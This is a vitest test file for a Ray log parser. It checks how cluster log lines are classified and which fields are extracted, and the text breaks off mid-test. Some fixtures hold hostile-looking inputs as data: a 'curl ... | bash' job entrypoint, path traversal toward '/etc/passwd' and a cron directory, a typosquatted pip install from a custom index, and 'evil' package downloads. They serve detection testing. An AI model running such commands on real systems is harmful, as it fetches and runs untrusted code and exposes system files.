// Ray: what every message of the catalogue means in each wording, ids inside ids, and records of several lines.
import { expect, test } from 'vitest';
import type { Draft } from '../../../electron/engine/parse/record.ts';
import { LEVELS } from '../../../shared/model.ts';
import { checkTiling, entitiesOf, fieldsOf, micros, type Read, read } from './reading.ts';

const SESSION = 'session_2026-11-20_17-26-14_617841_28470';
const NODE = '239c74b256be28e4e04cb4fcf909bfd7ee55f154fd8692f896967477';
const WORKER = '1ed85cfa6142b23490b8319571986ab537923c5180b6761b4ddad469';
const ACTOR = '3f8f563ccbd2cece6f98d7f601000000';
const TASK = `8849b62d89cb30f9${ACTOR}`;
const cpp = (message: string, level = 'I', file = 'x.cc:1') =>
  `[2026-11-20 17:26:31,272 ${level} 28956 28957] ${file}: ${message}`;
const py = (message: string, level = 'INFO') => `2026-11-20 17:26:31,272\t${level} x.py:1 -- ${message}`;

function one(line: string, path = `${SESSION}/logs/raylet.out`): Draft {
  const r = read(line, { path });
  checkTiling(r, new TextEncoder().encode(line).length);
  expect(r.records).toHaveLength(1);
  const draft = r.records[0] as Draft;
  expect(draft.parsed).toBe(true);
  return draft;
}

/** Message as written, `category/action/outcome`, and fields that must be there. */
const MEANINGS: readonly [string, string, Record<string, unknown>?][] = [
  [
    py('Starting job with submission_id: my-own_id'),
    'task/job_submit/success',
    { submission_id: 'my-own_id' },
  ],
  [
    'Running entrypoint for job raysubmit_a: curl -s http://x/y | bash',
    'process/job_entrypoint/unknown',
    { entrypoint: 'curl -s http://x/y | bash', submission_id: 'raysubmit_a' },
  ],
  [
    py(
      "Rejecting request_path=PurePosixPath('/etc/passwd') because it is not relative to parent=PurePosixPath('/static')",
    ),
    'api/path_traversal/failure',
    { path: '/etc/passwd' },
  ],
  [
    cpp('Unauthenticated: RPC error: InvalidAuthToken: Authentication token is missing or incorrect', 'W'),
    'authentication/token_check/failure',
  ],
  [
    cpp('Missing authorization header in request!', 'W', '(gcs_server) server_call.h:384'),
    'authentication/token_check/failure',
  ],
  [
    cpp('Wrong cluster ID token in request! Expected: a2, but got: b3', 'W'),
    'authentication/cluster_id_check/failure',
  ],
  [cpp('Loaded authentication token from /home/ray/.ray/auth_token'), 'configuration/auth_token/success'],
  [
    py(
      'Token authentication is disabled for this Ray cluster. Anyone with network access to the cluster can',
      'WARNING',
    ),
    'configuration/authentication_mode/unknown',
    { auth_mode: 'disabled' },
  ],
  [
    py(
      'Creating runtime env: {"pip": {"packages": ["requests==2.0", "evil"], "pip_check": false}, "image_uri": "reg.example:5000/team/app:1.2", "working_dir": "https://h.example/w.zip"} with timeout 600 seconds.',
    ),
    'configuration/runtime_env_create/unknown',
    {
      'runtime_env.kinds': ['pip', 'working_dir', 'image_uri'],
      'runtime_env.packages': ['requests==2.0', 'evil'],
      image: 'reg.example:5000/team/app:1.2',
      url: 'https://h.example/w.zip',
    },
  ],
  [
    py('Downloading package from https://127.0.0.1:9/evil.zip to /tmp/ray/x with protocol Protocol.HTTPS'),
    'network/package_download/unknown',
    { url: 'https://127.0.0.1:9/evil.zip' },
  ],
  [
    py(
      "Run cmd[3] ['/v/bin/python', '-m', 'pip', 'install', '--disable-pip-version-check', '--index-url', 'http://10.9.9.9/simple', 'reqeusts']",
    ),
    'process/command/unknown',
    { packages: ['reqeusts'], url: 'http://10.9.9.9/simple' },
  ],
  [py('Cloning virtualenv /opt/ray to /tmp/ray/v'), 'configuration/virtualenv_clone/unknown'],
  [
    py('runtime_env creation failed 3 times, giving up.', 'ERROR'),
    'configuration/runtime_env_create/failure',
  ],
  [
    cpp("Couldn't create a runtime environment for job 01000000.", 'E'),
    'configuration/runtime_env_create/failure',
    { job_id: '01000000' },
  ],
  [
    cpp(
      `4 Workers (tasks / actors) killed due to memory pressure (OOM), 0 Workers crashed due to other reasons at node (ID: ${NODE}, IP: 172.28.0.12) over the last time period.`,
      'E',
    ),
    'resource/out_of_memory/failure',
    { killed_workers: 4, crashed_workers: 0, node_id: NODE, node_ip: '172.28.0.12' },
  ],
  [
    cpp(`Killing 2 worker(s), kill details: Memory on the node (IP: 10.0.0.4, ID: ${NODE}) was 30.4GB`),
    'resource/out_of_memory/failure',
    { killed_workers: 2, node_ip: '10.0.0.4', node_id: NODE },
  ],
  [
    cpp(
      'System memory low at node with IP 172.17.0.2. Used memory (23.63GB) / total capacity (33.28GB) (0.709971) exceeds threshold 0.7, killing latest task with name the_real_oom_actor:Leaker.__init__ and actor ID dc0d34f19836a07b46222dbc01000000 to avoid running out of memory.',
      'E',
    ),
    'resource/out_of_memory/failure',
    {
      node_ip: '172.17.0.2',
      actor_id: 'dc0d34f19836a07b46222dbc01000000',
      job_id: '01000000',
      task_name: 'the_real_oom_actor:Leaker.__init__',
    },
  ],
  [cpp('Node memory usage above threshold, used: 1, threshold: 2'), 'resource/out_of_memory/failure'],
  ...['NODE_OUT_OF_MEMORY', 'SYSTEM_ERROR', 'USER_ERROR', 'INTENDED_SYSTEM_EXIT', 'INTENDED_USER_EXIT'].map(
    (type): [string, string, Record<string, unknown>] => [
      cpp(
        `Reporting worker exit, worker id = ${WORKER}, node id = ${NODE}, address = 10.0.0.4, exit_type = ${type}, exit_detail = Worker exits.`,
        'W',
      ),
      `process/worker_exit/${type.startsWith('INTENDED') ? 'success' : 'failure'}`,
      {
        exit_type: type,
        worker_id: WORKER,
        node_id: NODE,
        node_ip: '10.0.0.4',
        exit_detail: 'Worker exits.',
      },
    ],
  ),
  [
    py(
      `A worker died or was killed while executing a task by an unexpected system error. To troubleshoot the problem, check the logs for the dead worker. Lease ID: 0500000002000000${'f'.repeat(48)} Worker ID: ${WORKER} Node ID: ${NODE} Worker IP address: 192.0.2.2 Worker port: 12657 Worker PID: 18849 Worker exit type: SYSTEM_ERROR Worker exit detail: The leased worker`,
      'ERROR',
    ),
    'process/worker_lost/failure',
    {
      worker_pid: '18849',
      exit_type: 'SYSTEM_ERROR',
      worker_id: WORKER,
      owner_worker_id: `02000000${'f'.repeat(48)}`,
      job_id: '02000000',
      node_ip: '192.0.2.2',
    },
  ],
  [
    cpp(`Health check failed for node ${NODE}, remaining checks 2, status 14, response status 0`, 'W'),
    'node/health_check/failure',
    { node_id: NODE, remaining_checks: 2 },
  ],
  [
    cpp(
      `The node with node id: ${NODE} and address: 10.0.0.7 and node name: second has been marked dead because the detector has missed too many heartbeats from it.`,
      'E',
    ),
    'node/node_dead/failure',
    { node_id: NODE, address: '10.0.0.7', node_name: 'second' },
  ],
  [
    py(
      'The node with client ID 6a16415bb1baa3dc2e753af42ab73ff900d87222 has been marked dead because the monitor has missed too many heartbeats from it.',
      'ERROR',
    ),
    'node/node_dead/failure',
    { node_id: '6a16415bb1baa3dc2e753af42ab73ff900d87222' },
  ],
  [
    cpp(`, death reason = UNEXPECTED_TERMINATION, death message = health check failed node_id=${NODE}`),
    'node/node_dead/failure',
    { death_reason: 'UNEXPECTED_TERMINATION', death_message: 'health check failed', node_id: NODE },
  ],
  [
    cpp(
      `Removing node, node id = ${NODE}, node name = w1, death reason = EXPECTED_TERMINATION, death message = received SIGTERM`,
    ),
    'node/node_remove/success',
    { death_reason: 'EXPECTED_TERMINATION', node_name: 'w1', death_message: 'received SIGTERM' },
  ],
  [
    cpp(`, death reason = AUTOSCALER_DRAIN_IDLE, death message = idle node_id=${NODE}`),
    'node/node_remove/success',
    { death_reason: 'AUTOSCALER_DRAIN_IDLE' },
  ],
  [cpp('This node has beem marked as dead.', 'C'), 'node/node_dead/failure'],
  [
    cpp(
      "[Timeout] Exiting because this node manager has mistakenly been marked as dead by the GCS: GCS didn't receive heartbeats",
      'C',
    ),
    'node/node_dead/failure',
  ],
  [
    cpp('Exiting because this node manager has mistakenly been marked dead by the monitor: GCS', 'C'),
    'node/node_dead/failure',
  ],
  [
    cpp(`Node ${NODE} is dead because the health check failed.`, 'W'),
    'node/node_dead/failure',
    { node_id: NODE },
  ],
  [
    cpp('Last heartbeat was sent 6901 ms ago. There might be', 'W'),
    'node/heartbeat_late/failure',
    { heartbeat_ms: 6901 },
  ],
  [
    cpp('Failed to connect to GCS within 60 seconds. GCS may have been killed.', 'E'),
    'network/gcs_connect/failure',
  ],
  [cpp(' Check failed: x == y  1 vs 2', 'C'), 'process/crash/failure'],
  [
    cpp(
      '/tmp/ray is over 95.2% full, available space: 4.1 GB; capacity: 100 GB. Object creation will fail if spilling is required.',
      'E',
    ),
    'storage/disk_full/failure',
    { file_path: '/tmp/ray', used_percent: 95.2, available: '4.1 GB', capacity: '100 GB' },
  ],
  [
    cpp('/mnt/data0/ray is over 0.95% full, available space: 50637901824. Object creation will fail', 'E'),
    'storage/disk_full/failure',
    { used_percent: 95, available: '50637901824' },
  ],
  [
    cpp('Triggering object spilling because current usage 90.0008% is above threshold 80%.'),
    'storage/spill/unknown',
    { used_percent: 90.0008 },
  ],
  [
    cpp(':info_message:Spilled 85 MiB, 4 objects, write throughput 86 MiB/s.'),
    'storage/spill/success',
    { spilled_mib: 85, objects: 4 },
  ],
  [
    cpp(
      `Actor is failed on worker ${WORKER} at node ${NODE}, need_reschedule = 1, death context type = ActorDiedErrorContext, remaining_restarts = 0, num_restarts = 3, preempted = 0 job_id=01000000 actor_id=${ACTOR}`,
    ),
    'task/actor_failed/failure',
    {
      remaining_restarts: 0,
      num_restarts: 3,
      death_context: 'ActorDiedErrorContext',
      worker_id: WORKER,
      node_id: NODE,
      actor_id: ACTOR,
    },
  ],
  [
    cpp(
      `Actor ${ACTOR} is failed on worker ${WORKER} at node ${NODE}, need_reschedule = 1, remaining_restarts = 1, job id = 01000000`,
      'W',
    ),
    'task/actor_failed/failure',
    { actor_id: ACTOR, worker_id: WORKER, node_id: NODE, job_id: '01000000', remaining_restarts: 1 },
  ],
  [
    cpp('Actor is failed on worker NIL_ID at node NIL_ID, need_reschedule = 1, remaining_restarts = 0'),
    'task/actor_failed/failure',
    { worker_id: 'NIL_ID', node_id: 'NIL_ID' },
  ],
  [
    py(
      'Task A.die failed. There are 1 retries remaining, so the task will be retried. Error: gone',
      'WARNING',
    ),
    'task/task_retried/failure',
    { retries_left: 1, task_name: 'A.die' },
  ],
  [
    py(
      'Task f failed. There are infinite retries remaining, so the task will be retried. Error: gone',
      'WARNING',
    ),
    'task/task_retried/failure',
    { retries_left: 'infinite' },
  ],
  [py('StandardAutoscaler: Error during autoscaling.', 'ERROR'), 'resource/autoscale/failure'],
  [py('The autoscaler failed with the following error:', 'ERROR'), 'resource/autoscale/failure'],
  [py('Error in monitor loop', 'ERROR'), 'resource/autoscale/failure'],
  [
    cpp(
      "Some workers of the worker process(75780) have not registered within the timeout. The process is still alive, probably it's hanging during start.",
      'E',
    ),
    'process/worker_register/failure',
    { worker_pid: '75780', still_alive: true },
  ],
  [
    cpp(
      'Some workers of the worker process(75781) have not registered within the timeout. The process is dead, probably',
      'E',
    ),
    'process/worker_register/failure',
    { still_alive: false },
  ],
  [py('Got AioRpcError when checking GCS is alive, seq=108.', 'ERROR'), 'network/gcs_check/failure'],
  [py('Dashboard suicide, the GCS RPC error count 11 > 10', 'ERROR'), 'process/stop/failure'],
  [
    py(`Cannot reach the node, ${NODE}, after timeout 4.`, 'ERROR'),
    'node/node_unreachable/failure',
    { node_id: NODE },
  ],
  [
    cpp(`Registering new node. node_id=${NODE} node_name=second node_address=10.0.0.7`),
    'node/node_register/success',
    { node_id: NODE, node_name: 'second', address: '10.0.0.7' },
  ],
  [
    cpp(`Registering node info, node id = ${NODE}, address = 192.0.2.2, node name = w9`),
    'node/node_register/success',
    { node_id: NODE, node_name: 'w9', address: '192.0.2.2' },
  ],
  [
    cpp(
      `HandleDrainNode, reason: Node received SIGTERM; draining before shutdown., deadline: 1795195860757, grpc_peer: ipv4:10.0.0.5:35358 node_id=${NODE}`,
    ),
    'node/node_drain/unknown',
    { peer: '10.0.0.5:35358', reason: 'Node received SIGTERM; draining before shutdown.', node_id: NODE },
  ],
  [
    cpp(`HandleUnregisterNode() for node node_id=${NODE} grpc_peer=ipv6:%5Bfe80::1%5D:51674`),
    'node/node_unregister/unknown',
    { peer: 'fe80::1:51674' },
  ],
  [cpp('GCS server received SIGTERM, shutting down...'), 'process/stop/success'],
  [cpp('GCS server stopped.'), 'process/stop/success'],
  [cpp('Raylet received SIGTERM, shutting down...'), 'process/stop/success'],
  [
    cpp(`Driver (pid=32345) is disconnected. worker_id=01000000${'f'.repeat(48)} job_id=01000000`),
    'process/driver_exit/unknown',
    { driver_pid: '32345', job_id: '01000000' },
  ],
  [
    py('Sending stack trace request to 10.0.0.7:41234, pid 4242, with native=False, subprocesses=False'),
    'api/profile/unknown',
    { target_pid: '4242', address: '10.0.0.7:41234' },
  ],
  [
    py('Dashboard head http address: 0.0.0.0:8265'),
    'network/listen/success',
    { address: '0.0.0.0:8265', port: 8265 },
  ],
  [cpp('GcsServer server started, listening on port 6379.'), 'network/listen/success', { port: 6379 }],
  [
    cpp('Registering job. job_id=01000000 driver_pid=32345'),
    'task/job_register/unknown',
    { driver_pid: '32345', job_id: '01000000' },
  ],
  [
    cpp('Adding job, job id = 02000000, driver pid = 5697'),
    'task/job_register/unknown',
    { driver_pid: '5697', job_id: '02000000' },
  ],
  [
    py('Skipping unsafe path in zip: ../../etc/cron.d/x', 'WARNING'),
    'configuration/unsafe_path/failure',
    { path: '../../etc/cron.d/x' },
  ],
];

test.each(MEANINGS.map((m) => [m[0].slice(0, 110), m] as const))('%s', (_name, [line, meaning, fields]) => {
  const path = line.startsWith('Running') ? `${SESSION}/logs/job-driver-raysubmit_a.log` : undefined;
  const draft = one(line, path);
  expect(`${draft.category}/${draft.action}/${draft.outcome}`).toBe(meaning);
  if (fields) expect(fieldsOf(draft)).toMatchObject(fields);
});

test('serve names what is wrong with a replica in every wording', () => {
  const lines = [
    "WARNING 2026-11-20 17:30:00,123 controller 77 -- Health check for Replica(id='a', deployment='D', app='app1') failed: x",
    'WARNING 2026-11-20 17:30:00,123 app1_D a -- Replica health check failed.',
    "WARNING 2026-11-20 17:30:00,123 controller 77 -- Replica Replica(id='a', deployment='D', app='app1') failed the health check 3 times in a row, marking it unhealthy.",
    'WARNING 2023-03-10 09:14:57,187 controller 979 deployment_state.py:1506 - Replica D#DYFbUC of deployment D failed health check, stopping it.',
    'INFO 2023-03-10 09:14:57,180 controller 979 deployment_state.py:625 - Actor for replica D#DYFbUC crashed, marking it unhealthy immediately.',
    "WARNING 2026-11-20 17:30:00,123 controller 77 -- The deployments ['D'] are UNHEALTHY.",
  ];
  const r = read(lines.join('\n'), { path: `${SESSION}/logs/serve/controller_77.log` });
  expect(r.records.map((d) => d.action)).toEqual(lines.map(() => 'replica_unhealthy'));
  expect(fieldsOf(r.records[0] as Draft)).toMatchObject({
    replica: 'a',
    deployment: 'D',
    application: 'app1',
  });
});

test('an id gives the ids it is made of, each once, and none that is nil', () => {
  const all = (text: string) => entitiesOf(one(cpp(text))).sort();
  expect(all(`task_id=${TASK}`)).toEqual([
    `ray_actor:${ACTOR}:part`,
    'ray_job:01000000:part',
    `ray_task:${TASK}:mentioned`,
  ]);
  // a normal task has the dummy actor
  expect(all(`x task_id=85748392bcd969cc${'f'.repeat(24)}02000000`)).toEqual([
    'ray_job:02000000:part',
    `ray_task:85748392bcd969cc${'f'.repeat(24)}02000000:mentioned`,
  ]);
  const object = one(cpp(`Tried to free an object ${TASK}02e1f505 that we did not create`));
  expect(fieldsOf(object)).toMatchObject({ object_id: `${TASK}02e1f505`, task_id: TASK, actor_id: ACTOR });
  expect(all(`placement_group_id=e46c0cbe236089f0bb743d308bea03000000`)).toEqual(['ray_job:03000000:part']);
  expect(all(`worker_id=07000000${'f'.repeat(48)}`)).toEqual([
    'ray_job:07000000:part',
    `ray_worker:07000000${'f'.repeat(48)}:mentioned`,
  ]);
  expect(all(`job id = ffffffff, worker id = NIL_ID, actor_id=${'f'.repeat(32)}`)).toEqual([]);
  expect(all(`Finished leasing worker from ${NODE} for actor ${ACTOR}, job id = 01000000`)).toEqual([
    `ray_actor:${ACTOR}:mentioned`,
    'ray_job:01000000:mentioned',
    `ray_node:${NODE}:mentioned`,
  ]);
});

test('hexadecimal that is no id is not taken for one', () => {
  for (const text of [
    `ray_commit=cec0a091b12675bbf101cf8a350c8706107baee1`,
    `Delete incomplete virtualenv: /tmp/ray/pip/fbfe16dfa2d63ec3ec18cc86781fb99e8c21cb55`,
    `sha256:${'ab'.repeat(32)}`,
    `gs://bucket/${NODE}/x`,
    `id ${'a'.repeat(31)} and ${'b'.repeat(33)} and ${'c'.repeat(80)}`,
    'Failed job deadbeefcafe',
  ])
    expect(entitiesOf(one(cpp(text)))).toEqual([]);
});

test('an id that differs from the one of the path is told apart', () => {
  const other = 'be18a379cc5c2e4ddb7fb6370efca60be18a379cc5c2e4ddb7fb6370';
  const draft = one(
    cpp(`Worker exits worker_id=${other}`),
    `${SESSION}/logs/python-core-worker-${WORKER}_302.log`,
  );
  expect(fieldsOf(draft)).toMatchObject({
    worker_id: WORKER,
    'worker_id.mentioned': other,
    worker_type: 'worker',
  });
  expect(draft.pid).toBe('28956');
});

test('the number before the ending is another process, the one behind it an older file', () => {
  const index = (name: string) => fieldsOf(one(cpp('hi'), `${SESSION}/logs/${name}`)).process_index;
  expect(index('raylet.out')).toBeUndefined();
  expect(index('raylet.out.1')).toBeUndefined();
  expect(index('raylet.1.out')).toBe('1');
  expect(index('raylet.1.out.3')).toBe('1');
  expect(index('raylet.20.out.gz')).toBe('20');
});

test('every file of the layout is known by its path', () => {
  const path = (name: string) => one(py('hi'), `${SESSION}/logs/${name}`).component;
  expect(
    [
      'dashboard_JobHead.log',
      'dashboard_agent.1.log',
      'agent-424238335.out',
      'log_monitor.1.err',
      'monitor.log.2',
      'runtime_env_setup-ray_client_server_23000.log',
      'ray_client_server_23000.err',
      'ray_process_exit.log',
      `io_worker-${WORKER}-387.out`,
      `io-worker-${WORKER}-387.err`,
      `python-core-restore_worker-${WORKER}_387.log`,
      'java-worker-01000000-77.log',
      'jobs/supervisor-my_job.log',
      'events/event_CORE_WORKER_77.log',
      'serve/http_proxy_10.0.0.1.log',
      'ray-data/ray-data-abc.log',
      'train/ray-train-app-controller.log',
    ].map(path),
  ).toEqual([
    'dashboard',
    'dashboard_agent',
    'dashboard_agent',
    'log_monitor',
    'monitor',
    'runtime_env_agent',
    'ray_client_server',
    'ray_process_exit',
    'worker',
    'worker',
    'core_worker',
    'worker',
    'job_supervisor',
    'events',
    'serve',
    'data',
    'train',
  ]);
  const history = one(
    cpp('hi'),
    `bucket/cluster-history/raycluster/ns1/demo/${SESSION}/${NODE}/logs/raylet.out`,
  );
  expect(fieldsOf(history)).toMatchObject({
    namespace: 'ns1',
    cluster: 'demo',
    session: SESSION,
    node_id: NODE,
  });
  expect(entitiesOf(history)).toContain(`ray_node:${NODE}:context`);
});

test('state dumps, stack traces and status tables are one record each', () => {
  const lines = [
    cpp('Gcs Debug state:', 'I', '(gcs_server) gcs_server.cc:1'),
    '',
    'GcsNodeManager: ',
    '- RegisterNode request count: 1',
    '[state-dump] NodeManager:',
    '[runtime env manager] ID to URIs table:',
    '\tNodeInfoGcsService.grpc_server.GetAll - 11 total (0 active)',
    cpp(' Check failed: a == b ', 'C', '(gcs_server) gcs_actor.cc:7'),
    '*** StackTrace Information ***',
    '/opt/gcs_server(+0xf3) [0x1] ray::operator<<()',
    '',
    cpp('next', 'I', '(gcs_server) x.cc:1'),
  ];
  const r = read(lines.join('\n'), { path: `${SESSION}/logs/gcs_server.out` });
  expect(r.records.map((d) => [d.lines, d.action])).toEqual([
    [7, 'state_dump'],
    [4, 'crash'],
    [1, ''],
  ]);
  expect(r.summary.unparsedLines).toBe(0);
  const monitor = [
    py(''),
    '======== Autoscaler status: 2026-11-26 01:09:28.970295 ========',
    'Node status',
    '---------------------------------------------------------------',
    'Active:',
    ' 1 node_9a61de952221fbb5747a784c479144833de4df4421ac5f81d6e8a139',
    ' 2 worker_type',
    'Pending:',
    ' 10.0.0.9: worker_type, waiting-for-ssh',
    'Recent failures:',
    ' (no failures)',
    'Resources',
    ' 0.0/3.0 CPU',
    py('The autoscaler took 0.001 seconds to complete the update iteration.'),
  ];
  const m = read(monitor.join('\n'), { path: `${SESSION}/logs/monitor.log` });
  expect(m.records.map((d) => d.lines)).toEqual([13, 1]);
  expect(m.records[0]).toMatchObject({ category: 'resource', action: 'autoscaler_status' });
  expect(fieldsOf(m.records[0] as Draft)).toMatchObject({
    nodes_active: 3,
    nodes_pending: 1,
    nodes_failed: 0,
  });
});

test('processes that ended are named with code and signal', () => {
  const draft = one(
    `${py('Some Ray subprocesses exited unexpectedly:', 'ERROR')}\n  raylet [exit code=-9 (signal 9)]\n  dashboard [exit code=1]`,
    `${SESSION}/logs/ray_process_exit.log`,
  );
  expect(fieldsOf(draft)).toMatchObject({
    process_name: 'raylet',
    exit_code: -9,
    signal: '9',
    process_names: ['raylet', 'dashboard'],
  });
});

test('a traceback gives the class it ends with', () => {
  const draft = one(
    `${py('Failed to install pip packages.', 'ERROR')}\nTraceback (most recent call last):\n  File "x.py", line 1, in f\nOSError: first\n\nDuring handling of the above exception, another exception occurred:\n\nTraceback (most recent call last):\n  File "y.py", line 2, in g\nray._private.SubprocessError: Run cmd[3] failed\nLast 50 lines of stdout:\n    ERROR: No matching distribution`,
    `${SESSION}/logs/runtime_env_agent.log`,
  );
  expect(fieldsOf(draft).exception).toBe('ray._private.SubprocessError');
});

test('lines of a worker keep the job, task and actor that were stated above, and none is swallowed', () => {
  const lines = [
    ':job_id:02000000',
    ':task_name:f',
    'plain 1',
    cpp('something inside', 'W'),
    'plain 2',
    ':actor_name:A',
    'WARNING:root:careful',
    '*** SIGSEGV received at time=1795195725 on cpu 0 ***',
    'PC: @     0x7fbe0965a267  (unknown)  kill',
    '    @     0x7fbe0965a050  (unknown)  (unknown)',
    cpp('*** SIGSEGV received at time=1795195725 on cpu 0 ***', 'E', 'logging.cc:474'),
    'Fatal Python error: Segmentation fault',
    '',
    'Stack (most recent call first):',
    '  File "x.py", line 3 in f',
    'Extension modules: numpy (total: 1)',
    'plain 3',
  ];
  const r = read(lines.join('\n'), { path: `${SESSION}/logs/worker-${WORKER}-ffffffff-29630.err` });
  checkTiling(r, lines.join('\n').length);
  const rows = r.records.map((d) => {
    const f = fieldsOf(d);
    return [d.lines, d.action, LEVELS[d.level], f.task_name, f.actor_name, f.job_id];
  });
  expect(rows.slice(2)).toEqual([
    [1, '', undefined, 'f', undefined, '02000000'],
    [1, '', 'warning', 'f', undefined, '02000000'],
    [1, '', undefined, 'f', undefined, '02000000'],
    [1, 'worker_state', undefined, undefined, 'A', undefined],
    [1, '', 'warning', 'f', 'A', '02000000'],
    [3, 'crash', 'critical', 'f', 'A', '02000000'],
    [1, 'crash', 'error', 'f', 'A', '02000000'],
    [5, 'crash', 'critical', 'f', 'A', '02000000'],
    [1, '', undefined, 'f', 'A', '02000000'],
  ]);
  expect(r.records[8]?.nativeLevel).toBe('E');
  expect(r.summary.unparsedLines).toBe(0);
});

test('echoes are peeled whatever the name holds, and read again inside', () => {
  const lines = [
    '\x1b[36m(MapWorker(MapBatches(Predict)) pid=4242, ip=10.0.0.9)\x1b[0m INFO 2026-11-20 17:30:00,123 proxy 10.0.0.9 -- GET / 200 1.0ms',
    "(Actor(x='y z') pid=77) plain (text) here",
    `(raylet) ${cpp('Triggering object spilling because current usage 90% is above threshold 80%.', 'I', '(raylet) node_manager.cc:9')}`,
    '(autoscaler +1m5s) Adding 1 node(s) of type worker.',
    '(raylet, ip=10.0.0.9) Spilled 2048 MiB, 20 objects, write throughput 90 MiB/s. [repeated 4x across cluster] (Ray deduplicates logs by default.)',
  ];
  const r = read(lines.join('\n'), { path: 'notes/out.txt', mtimeUs: micros('2020-11-01T00:00:00Z') });
  expect(r.records).toHaveLength(lines.length);
  expect(r.records.map((d) => fieldsOf(d))).toMatchObject([
    { echo: true, 'echo.of': 'MapWorker(MapBatches(Predict))', 'echo.pid': '4242', 'echo.ip': '10.0.0.9' },
    { 'echo.of': "Actor(x='y z')", 'echo.pid': '77' },
    { 'echo.of': 'raylet', used_percent: 90 },
    { 'echo.of': 'autoscaler', 'echo.elapsed': '+1m5s' },
    { repeated: 4, spilled_mib: 2048 },
  ]);
  expect(r.records.map((d) => d.action)).toEqual(['http_request', '', 'spill', 'autoscale', 'spill']);
});

test('an echo of glog lines gets the year of the file', () => {
  const draft = read(
    "(pid=136534) F1009 07:02:26.344231 136534 136535 service_based_gcs_client.cc:207] Couldn't reconnect to GCS server.",
    { path: 'notes/out.txt', mtimeUs: micros('2020-11-01T00:00:00Z') },
  ).records[0] as Draft;
  expect(draft).toMatchObject({ level: LEVELS.indexOf('critical'), tid: '136535', action: 'gcs_connect' });
  expect(fieldsOf(draft)).toMatchObject({ 'echo.pid': '136534' });
  expect(draft.tsWall).toBe(micros('2020-10-09T07:02:26.344231Z'));
});

test("what a driver prints between echoes is text of the driver's, not unknown", () => {
  const lines = [
    '2023-12-17 06:59:10,172\tINFO worker.py:1673 -- Started a local Ray instance.',
    '(f pid=77) hello',
    '[0, 1, 2, 3]',
    'Traceback (most recent call last):',
    '  File "x.py", line 1, in <module>',
    'ValueError: bad',
    '(f pid=77) bye',
  ];
  const r: Read = read(lines.join('\n'), { path: 'out.txt' });
  expect(r.summary.unparsedLines).toBe(0);
  expect(r.records.map((d) => d.lines)).toEqual([1, 1, 1, 3, 1]);
});

test('under JSON logging echoes have no name before them: the lines around are text all the same', () => {
  const json =
    '{"asctime": "2026-11-26 01:13:05,430", "levelname": "INFO", "message": "driver says", "filename": "app.py", "lineno": 4, "process": 18965, "username": "kim", "timestamp_ns": 1795635785430715925}';
  const r = read(`${json}\nplain out 0\n[0, 1]\n${json}\n`, { path: 'out.txt' });
  expect(r.summary.unparsedLines).toBe(0);
  expect(r.records.map((d) => d.message)).toEqual(['driver says', 'plain out 0', '[0, 1]', 'driver says']);
  expect(r.records[0]).toMatchObject({ component: 'driver', userName: '' });
});

test('structured text states the moment behind the message: it is absolute, and tells the zone of the other lines', () => {
  const line =
    '2026-11-26 01:13:04,472\tINFO job_supervisor.py:437 -- Job raysubmit_t entrypoint command exited with code 7 job_id=01000000 task_name=JobSupervisor.run actor_name=_ray_internal_job_actor_raysubmit_t timestamp_ns=1795635784472503286';
  const r = read(line, { path: `${SESSION}/logs/jobs/supervisor-raysubmit_t.log` });
  const draft = r.records[0] as Draft;
  expect(draft.tsWall).toBe(micros('2026-11-25T19:43:04.472503Z'));
  expect(fieldsOf(draft)).toMatchObject({
    exit_code: 7,
    task_name: 'JobSupervisor.run',
    submission_id: 'raysubmit_t',
  });
  expect(draft.outcome).toBe('failure');
  expect(r.summary.zoneEvidence.map((z) => z.offsetMinutes)).toEqual([330]);
});

test('lines of a library whose log was not set up count from 1970', () => {
  const draft = one(
    'E0000 00:00:1723456789.123456   12345 init.cc:229] grpc_wait_for_shutdown_with_timeout() timed out.',
    `${SESSION}/logs/worker-${WORKER}-01000000-12345.err`,
  );
  expect(draft).toMatchObject({ nativeLevel: 'E', tid: '12345', logger: 'init.cc:229' });
  expect(draft.tsWall).toBe(micros('2024-08-12T09:59:49.123456Z'));
});

test('old versions, Windows and containers are read with level and time', () => {
  const rows: readonly [string, string, string, string][] = [
    [
      '[2021-12-21 11:57:49,879 I 87 87] node_manager.cc:620: Sending Python GC request',
      'info',
      'I',
      '2021-12-21T11:57:49.879Z',
    ],
    [
      '[2023-08-23 12:47:44,370 I 41356 40156] (gcs_server.exe) io_service_pool.cc:35: IOServicePool',
      'info',
      'I',
      '2023-08-23T12:47:44.370Z',
    ],
    [
      '[2023-05-19 12:35:18,347 D 4259 68399276] (raylet) a.cc:35: x',
      'debug',
      'D',
      '2023-05-19T12:35:18.347Z',
    ],
    ['2019-08-03 09:58:24,196\tERROR worker.py:1713 -- x', 'error', 'ERROR', '2019-08-03T09:58:24.196Z'],
    [
      '2026-11-26 01:09:23,018\tPANIC scripts.py:1170 -- Multi-node',
      'critical',
      'PANIC',
      '2026-11-26T01:09:23.018Z',
    ],
    [
      '2026-11-25 20:20:26,849 WARNING (dashboard) module.py:83 -- Parent process 12052 died. Exiting...',
      'warning',
      'WARNING',
      '2026-11-25T20:20:26.849Z',
    ],
    [
      'INFO 2022-07-06 16:43:35,304 controller 75543 deployment_state.py:1216 - Adding 1 replicas',
      'info',
      'INFO',
      '2022-07-06T16:43:35.304Z',
    ],
  ];
  const r = read(rows.map(([line]) => line).join('\n'), { path: 'ray-head/stdout.log' });
  expect(r.records).toHaveLength(rows.length);
  r.records.forEach((d, i) => {
    const [, level, native, time] = rows[i] as (typeof rows)[number];
    expect([LEVELS[d.level], d.nativeLevel, d.tsWall]).toEqual([level, native, micros(time)]);
  });
  expect(r.records[1]?.component).toBe('gcs_server');
  expect(r.records[5]?.component).toBe('dashboard');
});

test('what clients send in a request cannot break its fields', () => {
  const draft = one(
    `2026-11-20 17:26:37,368\tINFO web_log.py:229 -- 10.9.9.9 [20/Nov/2026:17:26:32 +0000] 'GET /api/jobs/x%2Fy/logs?a="b\\' HTTP/1.1' 404 246 bytes 509 us '-' 'a" ' 200 1 'x'`,
    `${SESSION}/logs/dashboard.log`,
  );
  expect(draft).toMatchObject({ httpMethod: 'GET', httpStatus: 404, srcIp: '10.9.9.9', outcome: 'failure' });
  expect(fieldsOf(draft)).toMatchObject({ submission_id: 'x/y' });
});

test('session metadata and state dumps say whose they are', () => {
  const address = one('{"node_ip_address": "10.0.0.7"}', `${SESSION}/node_ip_address.json`);
  expect(fieldsOf(address).address).toBe('10.0.0.7');
  expect(entitiesOf(address)).toContain('ip:10.0.0.7:self');
  const ports = one(
    '{"10.0.0.7:/tmp/ray/s/sockets/plasma_store": {"metrics_agent_port": 54303}}',
